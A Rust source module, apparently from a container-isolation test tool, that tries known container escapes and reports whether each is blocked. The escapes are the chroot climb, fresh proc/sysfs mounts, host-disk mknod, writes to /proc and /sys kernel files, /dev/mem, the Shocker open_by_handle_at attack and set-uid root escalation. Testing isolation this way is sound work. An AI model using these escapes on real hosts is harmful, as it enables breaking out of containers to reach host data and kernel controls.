//! Attacks on the file system view: the root, mounts, device nodes, the
//! kernel's files in /proc and /sys, the image, set-uid programs.

use std::os::unix::fs::{FileTypeExt, MetadataExt, PermissionsExt};

use crate::sys::{self, O_DIRECTORY, O_NONBLOCK, O_RDONLY, O_WRONLY};
use crate::{Host, Verdict, reads_secret, scratch};
use Verdict::{Blocked, Escaped};

/// The classic: chroot into a subdirectory without entering it, so the
/// working directory is outside the new root, then climb. With the old
/// root gone (pivot_root and a detached old root), the climb ends at the
/// container's own root.
pub fn chroot(host: &Host) -> Verdict {
    let target = if std::path::Path::new("/proc/self").exists() {
        "/proc"
    } else {
        "/dev"
    };
    let t = sys::cstr(target);
    // SAFETY: valid C strings.
    if unsafe { sys::chroot(t.as_ptr()) } != 0 {
        return Blocked(format!("chroot: {}", sys::last()));
    }
    let up = sys::cstr("..");
    for _ in 0..64 {
        // SAFETY: a valid C string.
        unsafe { sys::chdir(up.as_ptr()) };
    }
    let dot = sys::cstr(".");
    // SAFETY: a valid C string.
    if unsafe { sys::chroot(dot.as_ptr()) } != 0 {
        return Blocked(format!("chroot(.): {}", sys::last()));
    }
    match &host.secret {
        Some(dir) if secret_at(dir) => Escaped(format!(
            "reached the host's root and read {dir}/{}",
            crate::SECRET_NAME
        )),
        _ => Blocked("the climb ends at the container's own root".into()),
    }
}

/// Is the host's secret at `dir`, as this process sees paths?
pub fn secret_at(dir: &str) -> bool {
    let Ok(fd) = sys::open_at(-100, dir, O_RDONLY | O_DIRECTORY) else {
        return false;
    };
    let ok = reads_secret(fd);
    sys::close_fd(fd);
    ok
}

fn mount_detached(fstype: &str) -> Verdict {
    match sys::detached_mount(fstype, &[]) {
        Ok(fd) => {
            sys::close_fd(fd);
            Escaped(format!(
                "made a new {fstype} mount (detached, never attached)"
            ))
        }
        Err(e) => Blocked(e),
    }
}

/// A fresh proc has none of the masks and read-only binds the runtime put
/// over the container's /proc.
pub fn mount_proc(_: &Host) -> Verdict {
    match sys::detached_mount("proc", &[]) {
        Ok(fd) => {
            let w = sys::open_at(fd, "sysrq-trigger", O_WRONLY);
            sys::close_fd(fd);
            match w {
                Ok(w) => {
                    sys::close_fd(w);
                    Escaped("a fresh proc: sysrq-trigger opens for writing (never written)".into())
                }
                Err(e) => Escaped(format!(
                    "made a new proc mount (sysrq-trigger: {})",
                    sys::errno_name(e)
                )),
            }
        }
        Err(e) => Blocked(e),
    }
}

pub fn mount_sysfs(_: &Host) -> Verdict {
    mount_detached("sysfs")
}

pub fn mount_tmpfs(_: &Host) -> Verdict {
    mount_detached("tmpfs")
}

/// A block node with the host disk's numbers, made in a scratch dir,
/// opened and read (one sector, never written), then removed.
pub fn mknod_disk(host: &Host) -> Verdict {
    let Some((major, minor)) = host.disk else {
        return Blocked("no host disk named".into());
    };
    let Some(path) = scratch() else {
        return Blocked("no writable directory".into());
    };
    let (ma, mi) = (major as u64, minor as u64);
    let dev =
        ((ma & 0xfffff000) << 32) | ((ma & 0xfff) << 8) | ((mi & 0xffffff00) << 12) | (mi & 0xff);
    let p = sys::cstr(&path);
    if let Err(e) = sys::raw(
        sys::nr::MKNODAT,
        [
            (-100i64) as usize,
            p.as_ptr() as usize,
            0o60600,
            dev as usize,
            0,
            0,
        ],
    ) {
        return Blocked(format!("mknod: {}", sys::errno_name(e)));
    }
    let result = match std::fs::File::open(&path) {
        Ok(mut f) => {
            let mut sector = [0u8; 512];
            match std::io::Read::read_exact(&mut f, &mut sector) {
                Ok(()) => Escaped(format!(
                    "read the first sector of the host's disk {major}:{minor}"
                )),
                Err(e) => Blocked(format!(
                    "read: {}",
                    sys::errno_name(e.raw_os_error().unwrap_or(0))
                )),
            }
        }
        Err(e) => Blocked(format!(
            "open of the node: {}",
            sys::errno_name(e.raw_os_error().unwrap_or(0))
        )),
    };
    let _ = std::fs::remove_file(&path);
    result
}

/// Open `path` with `flags`: Escaped when it is the real kernel file (a
/// regular proc/sys file), Blocked when it's missing, refused, or masked
/// by /dev/null.
fn open_kernel_file(path: &str, flags: i32, what: &str) -> Verdict {
    match sys::open_at(-100, path, flags) {
        Ok(fd) => {
            let f = std::fs::File::from(crate::owned(fd));
            let meta = f.metadata();
            match meta {
                Ok(m) if m.file_type().is_char_device() => {
                    Blocked(format!("masked: {path} is a character device (/dev/null)"))
                }
                Ok(m) if m.file_type().is_dir() => {
                    Blocked(format!("masked: {path} is an empty directory"))
                }
                _ => Escaped(format!("{what} ({path} opened, never written)")),
            }
        }
        Err(e) => Blocked(format!("open {path}: {}", sys::errno_name(e))),
    }
}

pub fn proc_sys(_: &Host) -> Verdict {
    open_kernel_file(
        "/proc/sys/kernel/core_pattern",
        O_WRONLY,
        "may set the host's core_pattern",
    )
}

pub fn sys_write(_: &Host) -> Verdict {
    // The first of these the host has (each depends on its configuration).
    let path = [
        "/sys/kernel/profiling",
        "/sys/kernel/mm/ksm/run",
        "/sys/power/state",
    ]
    .into_iter()
    .find(|p| std::path::Path::new(p).exists())
    .unwrap_or("/sys/kernel/profiling");
    open_kernel_file(path, O_WRONLY, "may write the host's kernel settings")
}

pub fn sysrq_trigger(_: &Host) -> Verdict {
    open_kernel_file(
        "/proc/sysrq-trigger",
        O_WRONLY,
        "may crash or reboot the host",
    )
}

pub fn kcore(_: &Host) -> Verdict {
    match std::fs::metadata("/proc/kcore") {
        Ok(m) if m.is_file() && m.size() > 0 => {
            open_kernel_file("/proc/kcore", O_RDONLY, "may read the kernel's memory")
        }
        Ok(_) => Blocked("masked: /proc/kcore is not the kernel's".into()),
        Err(e) => Blocked(format!(
            "/proc/kcore: {}",
            sys::errno_name(e.raw_os_error().unwrap_or(0))
        )),
    }
}

pub fn kmsg(_: &Host) -> Verdict {
    open_kernel_file(
        "/proc/kmsg",
        O_RDONLY | O_NONBLOCK,
        "may drain the host's kernel log",
    )
}

pub fn dev_mem(_: &Host) -> Verdict {
    match std::fs::metadata("/dev/mem") {
        Ok(m) if m.file_type().is_char_device() && m.rdev() == ((1 << 8) | 1) => {
            match sys::open_at(-100, "/dev/mem", O_RDONLY) {
                Ok(fd) => {
                    sys::close_fd(fd);
                    Escaped("opened /dev/mem (never read)".into())
                }
                Err(e) => Blocked(format!("open /dev/mem: {}", sys::errno_name(e))),
            }
        }
        Ok(_) => Blocked("/dev/mem is not the memory device".into()),
        Err(e) => Blocked(format!(
            "/dev/mem: {}",
            sys::errno_name(e.raw_os_error().unwrap_or(0))
        )),
    }
}

/// Shocker: a file handle names an inode on a file system, and
/// open_by_handle_at opens it from any fd on the same file system,
/// whatever the caller's root. The recorder gives the handle of a host
/// directory; any mount of that file system in here is enough.
pub fn shocker(host: &Host) -> Verdict {
    let Some((kind, bytes)) = &host.handle else {
        return Blocked("no handle given".into());
    };
    // struct file_handle: u32 handle_bytes, i32 handle_type, bytes.
    let mut fh = Vec::with_capacity(8 + bytes.len());
    fh.extend_from_slice(&(bytes.len() as u32).to_ne_bytes());
    fh.extend_from_slice(&kind.to_ne_bytes());
    fh.extend_from_slice(bytes);
    let mountinfo = std::fs::read_to_string("/proc/self/mountinfo").unwrap_or_default();
    let mut last = "no mount to try".to_string();
    let mut refused = None;
    for point in mountinfo.lines().filter_map(|l| l.split(' ').nth(4)) {
        let Ok(mfd) = sys::open_at(-100, point, O_RDONLY | O_DIRECTORY) else {
            continue;
        };
        let r = sys::raw(
            sys::nr::OPEN_BY_HANDLE_AT,
            [
                mfd as usize,
                fh.as_ptr() as usize,
                (O_RDONLY | O_DIRECTORY) as usize,
                0,
                0,
                0,
            ],
        );
        sys::close_fd(mfd);
        match r {
            Ok(fd) => {
                let ok = reads_secret(fd as i32);
                sys::close_fd(fd as i32);
                if ok {
                    return Escaped(format!(
                        "opened a host directory by its handle through {point}"
                    ));
                }
            }
            Err(e) if e == 1 || e == 13 => {
                refused = Some(format!("open_by_handle_at: {}", sys::errno_name(e)))
            }
            Err(e) => {
                last = format!(
                    "open_by_handle_at: {} (no mount of that file system)",
                    sys::errno_name(e)
                )
            }
        }
    }
    Blocked(refused.unwrap_or(last))
}

/// Write a file of the image. Only the recorder can tell where the write
/// landed (the image, or the container's own layer): it checks the file.
pub fn image_write(host: &Host) -> Verdict {
    let Some(path) = &host.image else {
        return Blocked("no image file named".into());
    };
    match std::fs::write(path, b"written from a container\n") {
        Ok(()) => Escaped(format!("wrote {path}")),
        Err(e) => Blocked(format!(
            "write {path}: {}",
            sys::errno_name(e.raw_os_error().unwrap_or(0))
        )),
    }
}

/// A set-uid root copy of this program, run as uid 65534: does it get
/// euid 0? no_new_privs (or a nosuid mount) says no.
pub fn setuid(_: &Host) -> Verdict {
    let Some(path) = scratch() else {
        return Blocked("no writable directory".into());
    };
    let result = setuid_in(&path);
    let _ = std::fs::remove_file(&path);
    result
}

fn setuid_in(path: &str) -> Verdict {
    let me = match std::fs::read("/proc/self/exe") {
        Ok(b) => b,
        Err(e) => return Blocked(format!("read /proc/self/exe: {e}")),
    };
    if let Err(e) = std::fs::write(path, me) {
        return Blocked(format!("copy: {e}"));
    }
    if let Err(e) = std::os::unix::fs::chown(path, Some(0), Some(0)) {
        return Blocked(format!(
            "chown: {}",
            sys::errno_name(e.raw_os_error().unwrap_or(0))
        ));
    }
    if let Err(e) = std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o4755)) {
        return Blocked(format!("chmod 4755: {e}"));
    }
    let mut fds = [0i32; 2];
    // SAFETY: pipe fills the array.
    unsafe { sys::pipe(fds.as_mut_ptr()) };
    // SAFETY: single-threaded; the child drops its uid and execs.
    let pid = unsafe { sys::fork() };
    if pid == 0 {
        // SAFETY: plain calls; dup2 replaces stdout with the pipe.
        unsafe {
            sys::close(fds[0]);
            sys::dup2(fds[1], 1);
            sys::setgroups(0, std::ptr::null());
            sys::setgid(65534);
            if sys::setuid(65534) != 0 {
                sys::_exit(if sys::errno() == 1 { 3 } else { 4 });
            }
            let p = sys::cstr(path);
            let arg0 = sys::cstr("attack");
            let arg1 = sys::cstr("euid");
            let argv = [arg0.as_ptr(), arg1.as_ptr(), std::ptr::null()];
            sys::execv(p.as_ptr(), argv.as_ptr());
            sys::_exit(5);
        }
    }
    sys::close_fd(fds[1]);
    let mut out = String::new();
    let mut f = std::fs::File::from(crate::owned(fds[0]));
    let _ = std::io::Read::read_to_string(&mut f, &mut out);
    let mut status = 0;
    // SAFETY: our child.
    unsafe { sys::waitpid(pid, &mut status, 0) };
    match (out.trim(), (status >> 8) & 0xff) {
        ("0", _) => Escaped("uid 65534 ran a set-uid root copy and had euid 0".into()),
        (_, 3) => Blocked("setuid(65534): EPERM".into()),
        (_, 5) => Blocked("exec of the copy failed".into()),
        (euid, _) if !euid.is_empty() => {
            Blocked(format!("the set-uid bit was ignored (euid {euid})"))
        }
        _ => Blocked(format!("no answer (status {status})")),
    }
}
